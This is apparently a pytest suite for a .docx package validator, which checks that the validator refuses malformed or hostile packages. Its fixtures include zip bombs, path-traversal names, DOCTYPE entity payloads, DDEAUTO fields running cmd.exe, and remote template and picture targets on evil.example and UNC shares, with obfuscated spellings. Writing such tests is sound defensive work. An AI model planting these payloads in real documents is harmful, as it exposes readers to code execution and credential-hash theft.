from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Mapping
from pathlib import Path
from time import process_time

import pytest

from tests.conftest import ROOT
from toolkit.errors import PackageError
from toolkit.rendering.check import check_template
from toolkit.rendering.package.guard import read_package
from toolkit.rendering.package.inflating import PackageLimits

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BODY = f"<w:document {W}><w:body><w:p/></w:body></w:document>"


def types(main: str = f"{WORD}.document.main+xml") -> str:
    """Write content types with one main document."""
    return (
        f'<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )


def relation(kind: str, target: str, mode: str = "Internal") -> str:
    """Write a .rels part with one relationship."""
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" '
        f'Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


PARTS: Mapping[str, str | bytes] = {
    "[Content_Types].xml": types(),
    "_rels/.rels": relation("officeDocument", "word/document.xml"),
    "word/document.xml": BODY,
}
LINKS = "word/_rels/document.xml.rels"


def package(changed: Mapping[str, str | bytes | None] | None = None) -> bytes:
    """Zip a small package with parts changed, added or, by None, left out."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in {**PARTS, **(changed or {})}.items():
            if part is not None:
                archive.writestr(name, part)
    return written.getvalue()


def refusal(data: bytes, limits: PackageLimits | None = None) -> str:
    """Read a package that is refused, and give what is said in English."""
    with pytest.raises(PackageError) as caught:
        read_package(data, limits or PackageLimits())
    said = caught.value.said
    assert said.zh.endswith("。")
    assert said.en.endswith(".")
    return said.en


def patched(data: bytes, signature: bytes, offset: int, field: bytes) -> bytes:
    """Overwrite a field of each zip header that has a signature."""
    changed, place = bytearray(data), data.find(signature)
    while place >= 0:
        changed[place + offset : place + offset + len(field)] = field
        place = data.find(signature, place + 4)
    return bytes(changed)


def test_a_package_is_read_in_the_order_of_its_file() -> None:
    """The parts come by name, as bytes, and folders are left out."""
    parts = read_package(package({"word/": ""}))
    assert list(parts) == list(PARTS)
    assert parts["word/document.xml"] == BODY.encode()


@pytest.mark.parametrize("path", sorted((ROOT / "templates").glob("*.docx")), ids=lambda p: p.stem)
def test_shipped_templates_are_accepted(path: Path) -> None:
    """No check finds fault with our own templates."""
    assert "word/document.xml" in read_package(path.read_bytes())


def test_what_is_no_zip_is_refused() -> None:
    """An old .doc, a cut-off file and an empty one are no packages."""
    assert "not a zip" in refusal(b"\xd0\xcf\x11\xe0" + bytes(500))
    assert "not a zip" in refusal(b"")
    assert "no .docx" in refusal(package()[:-40])


def test_a_damaged_part_is_refused() -> None:
    """A part whose checksum does not fit is not used."""
    assert "no .docx" in refusal(patched(package(), b"PK\x01\x02", 16, b"\1\2\3\4"))


def test_encrypted_entries_are_refused() -> None:
    """A part that needs a password is named."""
    assert "is encrypted" in refusal(patched(package(), b"PK\x01\x02", 8, b"\x01\x00"))


def test_uncommon_compression_is_refused() -> None:
    """Only what Word writes is inflated: bzip2 and LZMA are not."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_BZIP2) as archive:
        for name, part in PARTS.items():
            archive.writestr(name, part)
    assert "does not use" in refusal(written.getvalue())


def test_too_many_entries_are_refused() -> None:
    """The entries are counted before they are opened."""
    many = package({f"word/media/{number}.png": b"" for number in range(2_000)})
    assert "entries 2003, at most 2000" in refusal(many)


def test_the_declared_size_is_bounded_before_inflating() -> None:
    """A part that says it has 4 GB is refused at once, whatever it holds."""
    declared = struct.pack("<L", 4_000_000_000)
    assert "bytes when inflated" in refusal(patched(package(), b"PK\x01\x02", 24, declared))


def test_a_part_larger_than_declared_is_refused() -> None:
    """Inflating stops at the declared size, where the checksum does not fit."""
    bomb = package({"word/media/a.png": bytes(50_000_000)})
    assert "no .docx" in refusal(patched(bomb, b"PK\x01\x02", 24, struct.pack("<L", 100)))


def test_a_ratio_bomb_is_refused() -> None:
    """Zeros deflate a thousandfold; a part above 1 MB may inflate by 400."""
    assert "over 400 times" in refusal(package({"word/media/a.png": bytes(2_000_000)}))
    assert read_package(package({"word/media/a.png": bytes(900_000)}))


def test_overlapping_entries_are_refused() -> None:
    """Two entries of the directory cannot share their bytes."""
    data = package()
    first, second = data.find(b"PK\x01\x02"), data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)
    shared = data[first + 42 : first + 46]
    assert "overlaps" in refusal(data[: second + 42] + shared + data[second + 46 :])


def test_names_twice_are_refused() -> None:
    """The second of two equal names would hide the first."""
    written = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(written, "w") as archive:
        warnings.simplefilter("ignore")
        for name in (*PARTS, "word/document.xml"):
            archive.writestr(name, PARTS[name])
    assert "same name" in refusal(written.getvalue())


def test_names_that_differ_by_case_are_refused() -> None:
    """Word compares names without case, so that one would hide the other."""
    assert "same name as `word/document.xml`" in refusal(package({"word/Document.XML": BODY}))


@pytest.mark.parametrize(
    "name",
    [
        "/etc/passwd",
        "../evil.xml",
        "word/../../evil.xml",
        "word\\evil.xml",
        "C:/evil.xml",
        "word/%2e%2e/evil.xml",
        "word//evil.xml",
        "word/a\x00b.xml",
        "word/a\nb.xml",
    ],
)
def test_names_that_lead_out_are_refused(name: str) -> None:
    """A name is a plain path inside the package."""
    data = package({"word/" + "q" * 30: b"x"})
    raw = name.encode().ljust(35, b"z")[:35]
    assert "leads out" in refusal(data.replace(b"word/" + b"q" * 30, raw))


@pytest.mark.parametrize("name", ["[Content_Types].xml", "word/document.xml", "_rels/.rels"])
def test_a_package_without_its_skeleton_is_refused(name: str) -> None:
    """Content types, relationships and main document are needed."""
    assert "no .docx that can be read" in refusal(package({name: None}))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("name", ["word/document.xml", "_rels/.rels", "[Content_Types].xml"])
def test_entities_are_refused(name: str, encoding: str) -> None:
    """No part declares a DOCTYPE, in whatever encoding: a billion laughs starts with one."""
    laughs = '<!DOCTYPE x [<!ENTITY a "ha">]>' + str(PARTS[name])
    assert "DOCTYPE" in refusal(package({name: laughs.encode(encoding)}))


def test_entities_in_a_part_of_another_name_are_refused() -> None:
    """What the content types call XML is XML, whatever its name ends with."""
    declared = types().replace("/word/document.xml", "/word/document.bin")
    changed = {
        "[Content_Types].xml": declared,
        "_rels/.rels": relation("officeDocument", "word/document.bin"),
        "word/document.bin": f"<!DOCTYPE x>{BODY}",
    }
    assert "DOCTYPE" in refusal(package(changed))


@pytest.mark.parametrize("encoding", ["utf-7", "cp037", "gb18030", "iso-8859-1", "utf8"])
@pytest.mark.parametrize("blanks", [1, 300, 9_000])
def test_other_encodings_are_refused(encoding: str, blanks: int) -> None:
    """UTF-7 can spell a DOCTYPE without its bytes; a package is UTF-8 or UTF-16."""
    text = f'<?xml version="1.0"{" " * blanks}encoding="{encoding}"?>+ADwAIQ-DOCTYPE x>{BODY}'
    assert "neither" in refusal(package({"word/document.xml": text}))


@pytest.mark.parametrize("encoding", ["utf-32", "cp037"])
def test_bytes_of_other_encodings_are_refused(encoding: str) -> None:
    """What is neither UTF-8 nor UTF-16 is no XML, whatever it says of itself."""
    text = f'<?xml version="1.0" encoding="UTF-8"?>{BODY}'
    assert "not well-formed" in refusal(package({"word/document.xml": text.encode(encoding)}))


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "word/vbaData.xml",
        "word/embeddings/sheet.xlsm",
        "word/VBAPROJECT.BIN",
    ],
)
def test_active_content_is_refused_unless_allowed(name: str) -> None:
    """Macros, OLE objects and ActiveX controls run in the reader's Word."""
    data = package({name: "<x/>"})
    assert "macro" in refusal(data)
    assert name in read_package(data, PackageLimits(allow_active=True))


def test_active_content_types_are_refused() -> None:
    """A .docm that was renamed is still a .docm, in UTF-16 too."""
    renamed = types("application/vnd.ms-word.document.macroEnabled.main+xml")
    for data in (renamed.encode(), renamed.encode("utf-16")):
        assert "macro" in refusal(package({"[Content_Types].xml": data}))
        assert read_package(
            package({"[Content_Types].xml": data}), PackageLimits(allow_active=True)
        )


@pytest.mark.parametrize("kind", ["oleObject", "control", "vbaProject", "aFChunk"])
def test_active_relations_are_refused(kind: str) -> None:
    """An object is found by its relationship, whatever its part is called."""
    assert "macro" in refusal(package({LINKS: relation(kind, "media/a.png")}))


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "subDocument", "frame", "oleObject"])
def test_external_relations_are_refused(kind: str) -> None:
    """Word fetches such a target when it opens the document: remote template injection."""
    data = package({LINKS: relation(kind, "https://evil.example/x.dotm", "External")})
    assert f"external {kind}: https://evil.example/x.dotm" in refusal(data)


@pytest.mark.parametrize(
    "target",
    [
        "file://evil.example/x.dotm",
        "file:////evil.example/x.dotm",
        "\\\\evil.example\\x.dotm",
        "%5C%5Cevil.example%5Cx.dotm",
        "//evil.example/x.dotm",
        "file:///C:/https://evil.example/x.dotm",
        "file://///evil.example/x.dotm",
        "/\\evil.example/x.dotm",
        " https://evil.example/x.dotm",
        "mhtml:https://evil.example/x.dotm",
    ],
)
def test_remote_targets_are_refused_in_every_spelling(target: str) -> None:
    """Windows fetches a share as it does a web page, and hands over the reader's password hash."""
    data = package({LINKS: relation("attachedTemplate", target, "External")})
    assert "external attachedTemplate" in refusal(data)


@pytest.mark.parametrize(
    "target",
    [
        "file:///C:\\Users\\王\\Normal.dotm",
        "C:/Office/Normal.dotm",
        "Normal.dotm",
        "../../AppData/Normal.dotm",
        "file:///Users/wang/Library/Normal.dotm",
        "file://localhost/Users/wang/Normal.dotm",
        "/Applications/Office%202011/Normal.dotm",
    ],
)
def test_templates_on_a_disk_are_accepted(target: str) -> None:
    """Word notes the place of the writer's Normal.dotm in very many files."""
    assert read_package(package({LINKS: relation("attachedTemplate", target, "External")}))


def test_hyperlinks_are_accepted() -> None:
    """A link is followed by the reader only."""
    assert read_package(package({LINKS: relation("hyperlink", "https://a.example", "External")}))


@pytest.mark.parametrize(
    "runs",
    [
        ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",),
        (" DD", "EAU", "TO cmd"),
        ("INCLUDEPICTURE &quot;https://evil.example/a.png&quot; \\d",),
        ("D&#68;E cmd",),
    ],
)
def test_fields_that_fetch_or_run_are_refused(runs: tuple[str, ...]) -> None:
    """Word runs such a field when it updates the document, and lets it be split into runs."""
    field = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    assert "fetches or runs" in refusal(
        package({"word/document.xml": BODY.replace("<w:p/>", f"<w:p>{field}</w:p>")})
    )


def test_ordinary_fields_are_accepted() -> None:
    """Page numbers, tables of contents and links inside are what letters have."""
    fields = "".join(
        f"<w:r><w:instrText>{text}</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>"
        for text in (" PAGE ", ' TOC \\o "1-3" ', ' HYPERLINK "https://a.example" ', "LINK")
    )
    assert read_package(
        package({"word/document.xml": BODY.replace("<w:p/>", f"<w:p>{fields}</w:p>")})
    )


def test_relations_that_are_not_xml_are_refused() -> None:
    """A broken .rels part is named."""
    assert f"`{LINKS}` is not well-formed" in refusal(package({LINKS: "<Relationships>"}))


@pytest.mark.parametrize("part", ["word/styles.xml", "customXml/item1.xml", "docProps/core.xml"])
@pytest.mark.parametrize("xml", ["<a", "", "<a></b>", "<x:a/>", "<a x:b=''/>", "<a>&b;</a>"])
def test_parts_that_are_not_well_formed_are_refused(part: str, xml: str) -> None:
    """Each part that is XML is read in full, those that are never rendered too."""
    assert f"`{part}` is not well-formed" in refusal(package({part: xml}))


_DEEP = "<a>" * 300 + "</a>" * 300
# Deflates by less than what is refused.
_NOISE = "".join(f"{number:x} " for number in range(100_000))


@pytest.mark.parametrize(
    ("xml", "times"), [("<a", 1), (_DEEP, 1), (_NOISE, 20)], ids=["broken", "deep", "long"]
)
def test_styles_that_cannot_be_opened_are_a_finding(tmp_path: Path, xml: str, times: int) -> None:
    """python-docx opens 256 levels and 10 MB of text; checking a template says so."""
    styles = f'<Override PartName="/word/styles.xml" ContentType="{WORD}.styles+xml"/></Types>'
    changed = {
        "[Content_Types].xml": types().replace("</Types>", styles),
        "word/styles.xml": xml if times == 1 else f"<a>{xml * times}</a>",
    }
    path = tmp_path / "letter.docx"
    path.write_bytes(package(changed))
    (finding,) = check_template(None, path)
    assert "`word/styles.xml` is not well-formed" in finding.message.en


def test_styles_of_another_type_are_none(tmp_path: Path) -> None:
    """A part that is only called styles.xml is not opened, and linting goes on without it."""
    path = tmp_path / "letter.docx"
    path.write_bytes(package({"word/styles.xml": _DEEP}))
    list(check_template(None, path))


@pytest.mark.parametrize(
    ("name", "xml", "times", "what"),
    [
        ("word/document.xml", "x", 51_000_000, "bytes of XML"),
        ("customXml/item1.bin", "x", 51_000_000, "bytes of XML"),
        ("word/document.xml", "<p/><b/><c d=1/>", 340_000, "tags"),
        ("word/document.xml", "b= c= dd= ", 340_000, "attributes"),
    ],
)
def test_too_much_xml_is_refused(name: str, xml: str, times: int, what: str) -> None:
    """XML is counted before it is parsed, since it takes many times its size in memory."""
    override = f'<Override PartName="/{name}" ContentType="application/x+xml"/></Types>'
    declared = types().replace("</Types>", override)
    data = package({"[Content_Types].xml": declared, name: xml * times})
    started = process_time()
    assert f"too large: {what}" in refusal(data, PackageLimits(ratio=10_000))
    assert process_time() - started < 5


def test_relations_and_types_are_counted() -> None:
    """A million relationships are refused before one is looked at."""
    one = '<Relationship Id="a" Type="b" Target="c"/>'
    many = relation("image", "a.png").replace("</", one * 1_000_000 + "</")
    started = process_time()
    assert "tags 10000" in refusal(package({LINKS: many}), PackageLimits(ratio=10_000))
    assert process_time() - started < 5


def _field(code: str) -> bytes:
    """Write a package with a field around its code, which is XML."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    return _body(f"<w:p>{mark('begin')}{code}{mark('separate')}<w:r/>{mark('end')}</w:p>")


def _body(content: str, more: str = "") -> bytes:
    root = f"<w:document {W} {more}><w:body>"
    return package({"word/document.xml": f"{root}{content}</w:body></w:document>"})


def _code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


_MARKED = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
_QUOTED = f"{_MARKED.format('begin')}{_code('QUOTE 68')}{_MARKED.format('end')}"


@pytest.mark.parametrize(
    "code",
    [
        _code("<![CDATA[DDEAUTO c:\\cmd.exe]]>"),
        _code("<!-- x -->DDE<!-- y -->AUTO cmd"),
        _code("<?x y?>dde cmd"),
        _code("&#68;DE cmd"),
        _code("DD") + "<w:r><w:delText>x</w:delText></w:r>" + _code("E cmd"),
        "<w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r>",
        '<w:r><w:instrText w:q="&gt;>">DDE cmd</w:instrText></w:r>',
        "<w:r><w:t>DDE</w:t></w:r>" + _code(" cmd"),
        _code("DD") + "<w:r><w:t>EAUTO</w:t></w:r>",
        _code("DDEAUTO") + "<w:r><w:tab/></w:r>" + _code("cmd"),
        _QUOTED + _code(" cmd"),
        _code("{{ run }} cmd"),
        _code('INCLUDEPICTURE "') + _QUOTED + _code('"'),
        _code('INCLUDEPICTURE "{{ url }}"'),
        _code('INCLUDEPICTURE "http:\\evil\\x.png"'),
        _code('INCLUDEPICTURE "https%3A//evil/x.png"'),
        _code('INCLUDEPICTURE "ftp:evil"'),
        _code('IncludeText "mhtml:x"'),
        _code('INCLUDETEXT "//evil/share/x.docx"'),
        _code('INCLUDETEXT "\\\\evil\\x.docx"'),
        _code('INCLUDE "http://evil/x.doc"'),
        _code('IMPORT "http://evil/x.png"'),
        _code('RD "http://evil/x.docx"'),
        _code('LINK Excel.Sheet.8 "http://evil/x.xls"'),
        _code('DATABASE \\d "\\\\evil\\x.mdb" \\s "SELECT"'),
        '<w:fldSimple w:instr="INCLUDEPICTURE \\*\' &quot;http://evil/x&quot;"/>',
        "<w:fldSimple w:instr='DDE cmd'/>",
    ],
)
def test_fields_are_read_as_word_reads_them(code: str) -> None:
    """Nothing in the XML, no inner field and no tag hides what a field does."""
    assert "fetches or runs" in refusal(_field(code))


@pytest.mark.parametrize("kind", ["Choice", "Fallback"])
def test_fields_that_word_may_drop_in_part_are_refused(kind: str) -> None:
    """Word takes one branch of an alternative, so that the rest could be another field."""
    mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    split = f"<mc:AlternateContent {mc}><mc:{kind}>{_code('x')}</mc:{kind}></mc:AlternateContent>"
    assert "AlternateContent" in refusal(_field(_code("DD") + split + _code("E cmd")))


def test_fields_in_text_boxes_are_read_on_their_own() -> None:
    """A text box lies in an alternative, and is a story of its own."""
    fields = f"{_MARKED.format('begin')}{_code('{}')}{_MARKED.format('end')}"
    box = f"<v:textbox xmlns:v='urn:v'><w:txbxContent>{fields}</w:txbxContent></v:textbox>"
    outer = f"{_MARKED.format('begin')}{_code('PAGE')}{{}}{_MARKED.format('end')}"
    assert read_package(_body(outer.format(box.format("NUMPAGES"))))
    assert "fetches or runs" in refusal(_body(outer.format(box.format("DDE cmd"))))


def test_fields_within_each_other_are_bounded() -> None:
    """What is never closed is no reason to read on."""
    assert "fetches or runs" in refusal(_body(_MARKED.format("begin") * 200))


@pytest.mark.parametrize(
    "code",
    [
        _code('INCLUDEPICTURE "C:\\\\logo.png" \\* MERGEFORMAT'),
        _code("INCLUDETEXT terms.docx"),
        _code('LINK Excel.Sheet.12 "C:\\\\a.xlsx" "Sheet1!R1C1" \\a \\f 0'),
        _code("RDate"),
        _code("IF ") + _QUOTED + _code(' = 1 "a" "b"'),
        _code("=") + _QUOTED + _code("-1"),
        _code("MERGEFIELD ") + "<w:r><w:t>a</w:t></w:r>",
        _code("PAGE ") + "<w:fldSimple w:instr=' PAGE '/>",
    ],
)
def test_fields_that_stay_on_the_disk_are_accepted(code: str) -> None:
    """A file of the reader's own, a formula and a bookmark fetch nothing from elsewhere."""
    assert read_package(_field(code))


def test_fields_are_found_in_linear_time() -> None:
    """Text that only looks like many fields costs no more than other text."""
    text = f"<a>instr={'a' * 900_000}{' LINK' * 100_000}</a>"
    started = process_time()
    assert read_package(package({"customXml/item1.xml": text}), PackageLimits(ratio=10_000))
    assert process_time() - started < 5


@pytest.mark.parametrize("mode", ["", "Internal", " EXTERNAL", "External&#10;", "other"])
@pytest.mark.parametrize("target", ["https://evil.example/x.png", "//evil/x.png", "%255c%255cevil"])
def test_a_target_elsewhere_is_refused_in_every_mode(mode: str, target: str) -> None:
    """A relationship without a mode is one inside, where a web page cannot be."""
    assert "external image" in refusal(package({LINKS: relation("image", target, mode)}))
    no_mode = relation("image", target).replace(' TargetMode="Internal"', "")
    assert "external image" in refusal(package({LINKS: no_mode}))


@pytest.mark.parametrize(
    "target", ["%" + "25" * 50_000 + "5c", "%5c%3f%3f%5cUNC%5cevil", "a&#10;http://e"]
)
def test_hidden_targets_are_refused(target: str) -> None:
    """Encoding is undone until nothing changes, and for some rounds only."""
    data = package({LINKS: relation("attachedTemplate", target, "External")})
    assert "external attachedTemplate" in refusal(data)


def test_the_type_of_a_relationship_is_compared_whole() -> None:
    """What only ends with `hyperlink` is none."""
    odd = relation("attachedTemplate/hyperlink", "http://evil.example", "External")
    assert "external hyperlink" in refusal(package({LINKS: odd}))


@pytest.mark.parametrize("name", ["word/_rels/document.xml.rel%73", "word/_RELS/document.xml.RELS"])
def test_relations_are_found_under_every_name(name: str) -> None:
    """Part names are compared without case and decoded."""
    data = package({name: relation("image", "https://evil.example/x.png", "External")})
    assert "external image" in refusal(data)


def test_names_that_differ_by_encoding_are_refused() -> None:
    """One would hide the other."""
    assert "same name" in refusal(package({"word/document%2Exml": BODY}))


@pytest.mark.parametrize(
    "kind", ["ui/extensibility", "webextensiontaskpanes", "webextension", "attachedToolbars"]
)
def test_add_ins_are_refused_unless_allowed(kind: str) -> None:
    """Ribbons, task panes and toolbars run code of others."""
    data = package({LINKS: relation(kind, "a.xml")})
    assert "macro" in refusal(data)
    assert read_package(data, PackageLimits(allow_active=True))


@pytest.mark.parametrize(
    "setting",
    [
        "<w:mailMerge><w:query w:val='SELECT'/></w:mailMerge>",
        '<s:schema s:schemaLocation="http://evil.example/x.xsd" '
        'xmlns:s="http://schemas.openxmlformats.org/schemaLibrary/2006/main"/>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_settings_that_fetch_are_refused(setting: str, encoding: str) -> None:
    """A mail merge opens its data source together with the document."""
    xml = f"<w:settings {W}>{setting}</w:settings>".encode(encoding)
    assert "setting that fetches" in refusal(package({"word/settings.xml": xml}))


_VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'


@pytest.mark.parametrize(
    "shape",
    [
        '<v:imagedata src="http://evil/x.png"/>',
        '<v:fill src = "//evil/x.png"/>',
        '<v:imagedata o:href="ftp://evil/x.png"/>',
        '<v:imagedata src="\\\\evil\\x.png"/>',
        '<v:imagedata src="mhtml:evil"/>',
        '<v:stroke src="file://evil/x.png"/>',
        '<v:imagedata src="&#104;ttp:evil"/>',
    ],
)
def test_pictures_from_elsewhere_are_refused(shape: str) -> None:
    """Word fetches the picture of a VML shape by its address."""
    assert "picture from elsewhere" in refusal(_body(f"<w:pict>{shape}</w:pict>", _VML))


@pytest.mark.parametrize(
    "shape",
    [
        '<v:shape href="https://a.example"/>',
        '<v:imagedata src="file:///C:/a.png" o:href="cid:image1.png@01D"/>',
        '<v:imagedata src="media/a.png" o:title=""/>',
    ],
)
def test_shapes_that_fetch_nothing_are_accepted(shape: str) -> None:
    """A shape may be a link, which the reader follows, and note where its picture came from."""
    assert read_package(_body(f"<w:pict>{shape}</w:pict>", _VML))


@pytest.mark.parametrize(
    "inner",
    [
        '<image href="http://evil/x.png"/>',
        '<image x:href="\\\\evil\\x.png" xmlns:x="http://www.w3.org/1999/xlink"/>',
        '<use href="data:image/svg+xml,a"/>',
        "<script/>",
        "<foreignObject/>",
        '<g onload="a()"/>',
        '<set attributeName="href" to="http://evil"/>',
        '<g style="fill:url(http://evil/x.svg)"/>',
        "<style>@import 'http://evil/x.css';</style>",
        "<style>a{b:u\\72l(http://evil)}</style>",
        '<a href="javascript:a()"/>',
    ],
)
@pytest.mark.parametrize("name", ["word/media/a.svg", "word/media/a.bin"])
def test_active_svg_is_refused(inner: str, name: str) -> None:
    """An SVG can run scripts and fetch what it shows."""
    declared = types().replace(
        "</Types>", f'<Override PartName="/{name}" ContentType="image/svg+xml"/></Types>'
    )
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'
    assert "fetches or runs" in refusal(package({"[Content_Types].xml": declared, name: svg}))


def test_plain_svg_is_accepted() -> None:
    """Gradients, embedded pictures and links are what drawings have."""
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://a.example"/>'
        '<g fill="url(#a)" style="stroke:url(\'#b\')" transform="scale(2)"/><use href="#c"/>'
        '<image href="data:image/png;base64,AAAA"/><style>.a{fill:red}</style></svg>'
    )
    assert read_package(package({"word/media/a.svg": svg}))
    styled = f'<?xml-stylesheet href="http://evil/x.css"?>{svg}'
    assert "xml-stylesheet" in refusal(package({"word/media/a.svg": styled}))
